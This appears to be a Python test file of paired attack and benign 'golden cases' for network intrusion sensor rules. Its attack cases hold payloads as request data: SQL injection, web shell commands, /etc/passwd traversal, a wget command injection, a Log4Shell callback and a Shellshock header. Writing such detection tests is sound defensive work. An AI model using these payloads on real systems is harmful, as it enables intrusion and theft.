"""Golden cases of the rules about HTTP, TLS and files."""

from __future__ import annotations

from sensors.made.tls import certificate, handshake
from sensors.made.traffic import page, request, response
from tests.golden.make import FAR, INSIDE, OUTSIDE, SERVER, Capture

HOST = "portal.example.com"
PROGRAM = b"MZ\x90\x00" + bytes(300)
FORM = ("Content-Type: application/x-www-form-urlencoded",)


def _get(capture: Capture, target: str, *, at: float = 0, **how: object) -> None:
    """One request from outside to our web server, answered with a page."""
    capture.http(at, OUTSIDE, SERVER, [(request(target, HOST, **how), page("Cổng thông tin"))])  # type: ignore[arg-type]


def sql_injection(capture: Capture) -> None:
    _get(capture, "/tin?id=7%27%20UNION%20ALL%20SELECT%20user,pass%20FROM%20users--%20-")
    _get(capture, "/tra-cuu", at=5, method="POST", body=b"ma=x%27+OR+%271%27%3D%271", fields=FORM)


def sql_injection_quiet(capture: Capture) -> None:
    _get(capture, "/search?q=union+of+provinces+select+a+district")
    _get(capture, "/tra-cuu", at=5, method="POST", body=b"ten=O%27Reilly+or+his+brother&y=1", fields=FORM)


def web_shell(capture: Capture) -> None:
    asked = request("/uploads/img.php", HOST, method="POST", body=b"cmd=whoami", fields=FORM)
    capture.http(0, OUTSIDE, SERVER, [(asked, response(b"www-data"))])


def web_shell_quiet(capture: Capture) -> None:
    _get(capture, "/index.php?cmd=list&page=2")
    _get(capture, "/dang-ky.php", at=2, method="POST", body=b"name=id&c=hanoi", fields=FORM)


def injection_then_shell(capture: Capture) -> None:
    _get(capture, "/tin?id=7%27%20UNION%20SELECT%20%27x%27%20INTO%20OUTFILE%20%27/var/www/u.php%27--%20-")
    _get(capture, "/u.php?cmd=id", at=600)


def injection_then_shell_quiet(capture: Capture) -> None:
    _get(capture, "/tin?id=7")  # ordinary pages of the same server
    _get(capture, "/u.php?page=1", at=600)


def path_traversal(capture: Capture) -> None:
    _get(capture, "/download?file=..%2F..%2F..%2Fetc%2Fpasswd")


def path_traversal_quiet(capture: Capture) -> None:
    _get(capture, "/css/../../img/logo.png")
    _get(capture, "/help/what-is-/etc/passwd", at=1)


def command_injection(capture: Capture) -> None:
    _get(capture, "/ping?host=127.0.0.1%3Bwget%20http%3A%2F%2F203.0.113.66%2Fa")


def command_injection_quiet(capture: Capture) -> None:
    _get(capture, "/tim?q=cat;dog&s=wget+manual")


def log4shell(capture: Capture) -> None:
    _get(capture, "/", agent="${jndi:ldap://203.0.113.66:1389/a}")


def log4shell_quiet(capture: Capture) -> None:
    _get(capture, "/docs?q=jndi:ldap")


def scanner(capture: Capture) -> None:
    _get(capture, "/", agent="sqlmap/1.8.2#stable (https://sqlmap.example)")


def scanner_quiet(capture: Capture) -> None:
    _get(capture, "/", agent="ExampleBot/1.0 (+https://bot.example)")


def script_upload(capture: Capture) -> None:
    asked = request("/files/x.jsp/", HOST, method="PUT", body=b"<% out.print(1); %>")
    capture.http(0, OUTSIDE, SERVER, [(asked, response(b"", "201 Created"))])


def script_upload_quiet(capture: Capture) -> None:
    refused = request("/files/x.jsp", HOST, method="PUT", body=b"x")
    document = request("/files/report.docx", HOST, method="PUT", body=b"x")
    capture.http(
        0, OUTSIDE, SERVER, [(refused, response(b"", "403 Forbidden")), (document, response(b"", "201 Created"))]
    )


def framework_exploit(capture: Capture) -> None:
    _get(capture, "/cgi-bin/status", agent="() { :;}; /bin/true")


def framework_exploit_quiet(capture: Capture) -> None:
    _get(capture, "/docs/class-loader?module=1")


def directory_guessing(capture: Capture) -> None:
    missing = response(b"", "404 Not Found")
    capture.http(0, OUTSIDE, SERVER, [(request(f"/backup{number}", HOST), missing) for number in range(45)])


def directory_guessing_quiet(capture: Capture) -> None:
    missing = response(b"", "404 Not Found")
    capture.http(0, OUTSIDE, SERVER, [(request(f"/favicon{number % 5}.ico", HOST), missing) for number in range(45)])


def login_guessing(capture: Capture) -> None:
    asked = request("/dang-nhap", HOST, method="POST", body=b"u=admin&p=123456", fields=FORM)
    capture.http(0, OUTSIDE, SERVER, [(asked, response(b"sai", "401 Unauthorized"))] * 24)


def login_guessing_quiet(capture: Capture) -> None:
    asked = request("/dang-nhap", HOST, method="POST", body=b"u=lan&p=x", fields=FORM)
    for number in range(8):
        capture.http(number * 20.0, f"198.51.100.{number + 1}", SERVER, [(asked, response())])


def defacement(capture: Capture) -> None:
    capture.http(
        0, FAR, SERVER, [(request("/", HOST), page("Hacked by example-team", "<h1>bị tấn công bởi example-team</h1>"))]
    )


def defacement_quiet(capture: Capture) -> None:
    capture.http(0, FAR, SERVER, [(request("/", HOST), page("Cảnh báo tấn công mạng", "Tin tức"))])
    news = page("Site hacked by unknown group", "News of elsewhere")
    capture.http(5, INSIDE, OUTSIDE, [(request("/", "news.example.org"), news)])


def portal_lookalike(capture: Capture) -> None:
    name = "dichvucong-gov.example.com"
    capture.dns(0, INSIDE, name, answer=OUTSIDE)
    handshake(capture, 1, INSIDE, OUTSIDE, 443, name, None)
    capture.http(2, INSIDE, OUTSIDE, [(request("/", name), page("Xác thực tài khoản"))])


def portal_lookalike_quiet(capture: Capture) -> None:
    capture.dns(0, INSIDE, "dichvucong.example.com", answer=OUTSIDE)
    handshake(capture, 1, INSIDE, OUTSIDE, 443, "governance.example.com", None)


def beacon(capture: Capture) -> None:
    for number in range(12):
        asked = request("/gate", OUTSIDE, method="POST", agent=None, body=b"id=7f&s=%d" % number)
        capture.http(number * 60.0 + number % 3, INSIDE, OUTSIDE, [(asked, response(b"0", content_type="text/plain"))])


def beacon_quiet(capture: Capture) -> None:
    for number in range(12):  # a person with a browser, and a program that speaks to a server of ours
        asked = request("/save", "www.example.net", method="POST", body=b"n=%d" % number)
        capture.http(number * 60.0, INSIDE, OUTSIDE, [(asked, response())])
        inner = request("/report", "10.1.0.80", method="POST", agent="python-requests/2.32", body=b"n=%d" % number)
        capture.http(number * 60.0 + 5, INSIDE, SERVER, [(inner, response())])


def beacon_without_name(capture: Capture) -> None:
    for number in range(10):
        handshake(capture, number * 120.0, INSIDE, OUTSIDE, 443, None, None)


def beacon_without_name_quiet(capture: Capture) -> None:
    for number in range(10):
        handshake(capture, number * 120.0, INSIDE, OUTSIDE, 443, "www.example.org", None)


def self_signed_rare_port(capture: Capture) -> None:
    handshake(capture, 0, INSIDE, OUTSIDE, 4433, "c.example.net", certificate("localhost", "localhost"))


def self_signed_rare_port_quiet(capture: Capture) -> None:
    handshake(capture, 0, INSIDE, OUTSIDE, 4433, "c.example.net", certificate("c.example.net", "Example CA"))
    handshake(capture, 5, INSIDE, OUTSIDE, 443, "d.example.net", certificate("localhost", "localhost"))


def program_from_bare_address(capture: Capture) -> None:
    sent = response(PROGRAM, content_type="application/octet-stream")
    capture.http(0, INSIDE, OUTSIDE, [(request("/update", OUTSIDE), sent)])


def program_from_bare_address_quiet(capture: Capture) -> None:
    sent = response(PROGRAM, content_type="application/octet-stream")
    capture.http(0, INSIDE, OUTSIDE, [(request("/setup.exe", "download.example.org"), sent)])
    capture.http(5, INSIDE, SERVER, [(request("/setup.exe", "10.1.0.80"), sent)])


def disguised_program(capture: Capture) -> None:
    capture.http(
        0, INSIDE, FAR, [(request("/img/banner.jpg", "cdn.example.org"), response(PROGRAM, content_type="image/jpeg"))]
    )


def disguised_program_quiet(capture: Capture) -> None:
    picture = response(b"\xff\xd8\xff\xe0" + bytes(200), content_type="image/jpeg")
    capture.http(0, INSIDE, FAR, [(request("/img/banner.jpg", "cdn.example.org"), picture)])


def ransom_note(capture: Capture) -> None:
    note = response(b"Your network is encrypted. Write to a@example.org", content_type="text/plain")
    capture.http(0, INSIDE, FAR, [(request("/n/HOW_TO_DECRYPT.txt", "files.example.org"), note)])


def ransom_note_quiet(capture: Capture) -> None:
    note = response(b"How to decrypt a PDF", content_type="text/plain")
    capture.http(0, INSIDE, FAR, [(request("/docs/decrypting-mail.txt", "files.example.org"), note)])


def tool_download(capture: Capture) -> None:
    sent = response(b"#!/bin/sh\necho x\n", content_type="text/plain")
    capture.http(0, INSIDE, FAR, [(request("/i.sh", "files.example.org", agent="curl/8.5.0"), sent)])


def tool_download_quiet(capture: Capture) -> None:
    sent = response(b"Origin: example\n", content_type="text/plain")
    capture.http(0, INSIDE, FAR, [(request("/debian/InRelease", "deb.example.org", agent="curl/8.5.0"), sent)])
